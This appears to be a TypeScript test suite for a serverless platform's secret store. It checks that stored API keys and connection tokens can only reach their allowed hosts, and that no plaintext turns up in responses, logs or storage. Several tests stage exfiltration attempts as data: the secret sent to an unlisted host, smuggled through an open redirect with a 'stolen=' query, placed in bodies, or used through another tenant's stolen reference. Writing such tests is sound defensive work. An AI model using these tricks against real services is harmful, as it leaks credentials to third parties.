// Secrets from the attacker's side: hostile pulses try every way out for a secret's value. Each attempt
// fails, and afterwards the plaintext is searched for in every response, every log line the platform
// wrote, and every stored row, object and key: it is nowhere.

import { env } from "cloudflare:workers";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { loadKeyring, openSecret, sealSecret } from "../platform/secret-crypto.ts";
import { api, newTenant, type TestTenant } from "./support/control.ts";
import { deployFixture, type DeployedPulse } from "./support/pulses.ts";

const VALUE = "sk_live_Zx9!Qr7+vW/4tY=u&p\"q'<>";
const SHA_OF_BEARER = async (v: string) =>
  [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(`Bearer ${v}`)))].map((b) => b.toString(16).padStart(2, "0")).join("");

let dev: TestTenant;
let pulse: DeployedPulse;
const seen: string[] = []; // every response body and header the tests received, and every log line

beforeAll(async () => {
  for (const method of ["log", "error", "warn", "info"] as const) {
    const original = console[method].bind(console);
    vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
      seen.push(args.map((a) => (typeof a === "string" ? a : safeJson(a))).join(" "));
      original(...args);
    });
  }
  dev = await newTenant();
  pulse = await deployFixture("fetcher", { tenant: dev.name });
  const put = await api("PUT", `/v1/pulses/${pulse.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"] } });
  record(put);
  expect(put.status).toBe(200);
});

afterAll(() => {
  vi.restoreAllMocks();
});

function safeJson(value: unknown): string {
  try {
    return JSON.stringify(value) ?? String(value);
  } catch {
    return String(value);
  }
}

function record(res: { body: unknown; headers?: Headers }) {
  seen.push(typeof res.body === "string" ? res.body : safeJson(res.body));
  if (res.headers) seen.push(safeJson(Object.fromEntries(res.headers)));
}

async function send(p: DeployedPulse, input: Record<string, unknown>): Promise<any> {
  const res = await p.call("/", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(input) });
  const text = await res.text();
  record({ body: text, headers: res.headers });
  expect(res.status).toBe(200);
  return JSON.parse(text);
}

describe("a secret in use", () => {
  it("is substituted in a header for its allowed host, and the echo comes back redacted", async () => {
    const result = await send(pulse, { url: "https://upstream.test/echo", headers: { authorization: "Bearer {{secrets.API_KEY}}" } });
    expect(result.status).toBe(200);
    const echo = JSON.parse(result.body);
    // The upstream received the real value (its hash matches)...
    expect(echo.authorizationSha256).toBe(await SHA_OF_BEARER(VALUE));
    // ...and what came back to the pulse does not contain it, in the body or the headers.
    expect(echo.headers.authorization).toBe("Bearer [redacted]");
    expect(result.headers["x-echo-authorization"]).toBe("Bearer [redacted]");
  });

  it("is listed by name and hosts only", async () => {
    const list = await api("GET", `/v1/pulses/${pulse.name}/secrets`, { token: dev.token });
    record(list);
    expect(list.body.secrets).toEqual([{ name: "API_KEY", kind: "secret", hosts: ["upstream.test"], allowInUrl: false, allowInBody: false, allowSigning: false, updatedAt: expect.any(String) }]);
  });
});

describe("exfiltration attempts", () => {
  it("to a host not on its list: refused, nothing sent", async () => {
    const result = await send(pulse, { url: "https://other.test/echo", headers: { authorization: "Bearer {{secrets.API_KEY}}" } });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.code).toBe("secret_not_allowed_for_host");
  });

  it("via a redirect to another host: the header does not follow", async () => {
    const to = encodeURIComponent("https://other.test/echo");
    const result = await send(pulse, { url: `https://upstream.test/redirect?to=${to}`, headers: { authorization: "Bearer {{secrets.API_KEY}}" } });
    expect(result.status).toBe(200);
    const echo = JSON.parse(result.body);
    expect(echo.host).toBe("other.test");
    expect(echo.headers.authorization).toBeUndefined();
    expect(echo.authorizationSha256).toBe(await sha(""));
  });

  it("in a query string (not allowed in URLs): refused", async () => {
    const result = await send(pulse, { url: "https://upstream.test/echo?key={{secrets.API_KEY}}" });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.message).toMatch(/may not be placed in a URL/);
  });

  it("in a query string to an allowed host's open redirect (URLs allowed): the redirect is not followed", async () => {
    const urlPulse = await deployFixture("fetcher", { tenant: dev.name });
    record(await api("PUT", `/v1/pulses/${urlPulse.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"], allowInUrl: true } }));
    const target = encodeURIComponent("https://other.test/echo?stolen=");
    const result = await send(urlPulse, { url: `https://upstream.test/redirect?to=${target}{{secrets.API_KEY}}` });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.message).toMatch(/redirect would carry secret API_KEY to other\.test/);
  });

  it("in a body (not allowed in bodies): refused", async () => {
    const result = await send(pulse, { url: "https://upstream.test/echo", method: "POST", body: '{"key":"{{secrets.API_KEY}}"}', headers: { "content-type": "application/json" } });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.message).toMatch(/may not be placed in a request body/);
  });

  it("by echoing it back to the end user: redacted on the way in and on the way out", async () => {
    const bodyPulse = await deployFixture("fetcher", { tenant: dev.name });
    record(await api("PUT", `/v1/pulses/${bodyPulse.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"], allowInBody: true } }));
    const result = await send(bodyPulse, { url: "https://upstream.test/echo", method: "POST", body: '{"key":"{{secrets.API_KEY}}"}', headers: { "content-type": "application/json" } });
    expect(result.status).toBe(200);
    const echo = JSON.parse(result.body);
    // The upstream got the value, JSON-escaped into valid JSON...
    expect(JSON.parse(echo.body.replace("[redacted]", "x"))).toEqual({ key: "x" });
    // ...and its echo (the value escaped twice, inside its JSON answer) reached neither the pulse nor the end user.
    expect(echo.body).toBe('{"key":"[redacted]"}');
  });

  it("by reading env.secrets as a value or logging it: only references exist in the isolate", async () => {
    const peek = await deployFixture("secret-peek", { tenant: dev.name });
    record(await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"] } }));
    const res = await peek.call();
    const text = await res.text();
    record({ body: text, headers: res.headers });
    const body = JSON.parse(text);
    expect(body.secrets.API_KEY).toMatch(/^pulseref_[a-z2-7]{32}$/);
    expect(body.asString).toBe(body.secrets.API_KEY);
    // Same name, other pulse: another reference.
    const mine = await send(pulse, { url: "https://upstream.test/echo", headers: { "x-ref": "{{secrets.API_KEY}}" } });
    expect(JSON.parse(mine.body).headers["x-ref"]).toBe("[redacted]");
    expect(body.secrets.API_KEY).not.toBe(JSON.parse(mine.body).headers["x-ref"]);
  });

  it("with another pulse's reference: resolves to nothing", async () => {
    const peek = await deployFixture("secret-peek", { tenant: dev.name });
    record(await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"] } }));
    const stolenRef = (JSON.parse(await (await peek.call()).text()) as { secrets: { API_KEY: string } }).secrets.API_KEY;
    const thief = await deployFixture("fetcher", { tenant: (await newTenant()).name });
    const result = await send(thief, { url: "https://upstream.test/echo", headers: { authorization: `Bearer ${stolenRef}` } });
    expect(JSON.parse(result.body).headers.authorization).toBe(`Bearer ${stolenRef}`);
  });

  it("leaves no plaintext anywhere: responses, logs, database rows, KV, bundles", async () => {
    const spellings = [VALUE, encodeURIComponent(VALUE), JSON.stringify(VALUE).slice(1, -1), btoa(VALUE)];
    for (const text of seen) for (const s of spellings) expect(text.includes(s), `found in: ${text.slice(0, 200)}`).toBe(false);
    // Every table, every column.
    const tables = (await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%'").all<{ name: string }>()).results;
    expect(tables.map((t) => t.name)).toContain("secrets");
    for (const { name } of tables) {
      const dump = JSON.stringify((await env.DB.prepare(`SELECT * FROM "${name}"`).all()).results);
      for (const s of spellings) expect(dump.includes(s), `table ${name}`).toBe(false);
    }
    const keys = (await env.PULSE_KV.list()).keys;
    for (const k of keys) {
      const v = (await env.PULSE_KV.get(k.name)) ?? "";
      for (const s of spellings) expect(v.includes(s) || k.name.includes(s)).toBe(false);
    }
    const objects = (await env.BUNDLES.list()).objects;
    for (const o of objects) {
      const text = (await (await env.BUNDLES.get(o.key))?.text()) ?? "";
      for (const s of spellings) expect(text.includes(s)).toBe(false);
    }
  });
});

describe("secret storage", () => {
  it("rotates keys: old ciphertexts open after the primary changes, and a row moved to another pulse does not", async () => {
    const k1 = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(32))));
    const k2 = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(32))));
    const before = await loadKeyring(JSON.stringify({ primary: "k1", keys: { k1 } }));
    const after = await loadKeyring(JSON.stringify({ primary: "k2", keys: { k1, k2 } }));
    const owner = { pulseId: "pabc", kind: "secret", name: "X" };
    const sealed = await sealSecret(before, owner, "a value long enough");
    expect(await openSecret(after, owner, sealed)).toBe("a value long enough");
    expect((await sealSecret(after, owner, "new")).keyId).toBe("k2");
    await expect(openSecret(after, { ...owner, pulseId: "pother" }, sealed)).rejects.toThrow();
  });

  it("refuses values too short to redact, wildcard-only hosts and bad names", async () => {
    for (const [secret, body] of [
      ["SHORT", { value: "abc", hosts: ["upstream.test"] }],
      ["ANYWHERE", { value: "long enough value", hosts: ["*"] }],
      ["lower", { value: "long enough value", hosts: ["upstream.test"] }],
      ["NOHOSTS", { value: "long enough value", hosts: [] }],
    ] as const) {
      const res = await api("PUT", `/v1/pulses/${pulse.name}/secrets/${secret}`, { token: dev.token, body });
      expect(res.status, secret).toBe(400);
    }
  });

  it("resolves connections the same way", async () => {
    const put = await api("PUT", `/v1/pulses/${pulse.name}/connections/GITHUB`, { token: dev.token, body: { accessToken: "gho_connection_token_value", hosts: ["upstream.test"] } });
    expect(put.status).toBe(200);
    expect(JSON.stringify(put.body)).not.toContain("gho_connection_token_value");
    const result = await send(pulse, { url: "https://upstream.test/echo", headers: { authorization: "Bearer {{connections.GITHUB}}" } });
    expect(JSON.parse(result.body).authorizationSha256).toBe(await sha("Bearer gho_connection_token_value"));
    const del = await api("DELETE", `/v1/pulses/${pulse.name}/connections/GITHUB`, { token: dev.token });
    expect(del.status).toBe(200);
  });
});

async function sha(text: string): Promise<string> {
  return [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)))].map((b) => b.toString(16).padStart(2, "0")).join("");
}
